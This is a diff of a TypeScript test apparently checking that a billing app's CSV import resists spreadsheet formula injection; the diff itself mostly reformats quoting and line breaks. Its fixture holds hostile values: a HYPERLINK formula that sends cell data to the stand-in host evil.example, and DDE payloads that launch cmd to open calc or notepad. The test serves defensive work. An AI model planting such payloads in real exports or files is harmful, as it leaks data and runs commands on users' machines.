@@ -12,9 +12,9 @@ import { createTestApp } from '../test-support/test-app';
 let app: ReturnType<typeof createTestApp>;
 const HOSTILE = {
   track: '=HYPERLINK("http://evil.example/?q="&A1,"Click")',
-  milestone: '@SUM(1+1)*cmd|\' /C calc\'!A0',
-  provider: '+cmd|\' /C notepad\'!A0',
-  service: '-2+3+cmd|\' /C calc\'!A0',
+  milestone: "@SUM(1+1)*cmd|' /C calc'!A0",
+  provider: "+cmd|' /C notepad'!A0",
+  service: "-2+3+cmd|' /C calc'!A0",
   notes: '\t=1+1',
 };
 
@@ -26,7 +26,14 @@ beforeAll(async () => {
   db.prepare('UPDATE providers SET name = ?').run(HOSTILE.provider);
   db.prepare('UPDATE offerings SET notes = ?').run(HOSTILE.notes);
   const file = path.join(app.dataDir, 'hostile.csv');
-  fs.writeFileSync(file, ['BilledCost,BillingCurrency,ChargePeriodStart,ProviderName,ServiceName', `-12.5,USD,2024-09-02,AWS,"${HOSTILE.service}"`, `3,USD,2024-09-03,AWS,"${HOSTILE.service}"`].join('\n'));
+  fs.writeFileSync(
+    file,
+    [
+      'BilledCost,BillingCurrency,ChargePeriodStart,ProviderName,ServiceName',
+      `-12.5,USD,2024-09-02,AWS,"${HOSTILE.service}"`,
+      `3,USD,2024-09-03,AWS,"${HOSTILE.service}"`,
+    ].join('\n'),
+  );
   await app.services.budget.importFile({ file });
 }, 60_000);
 afterAll(() => app.dispose());
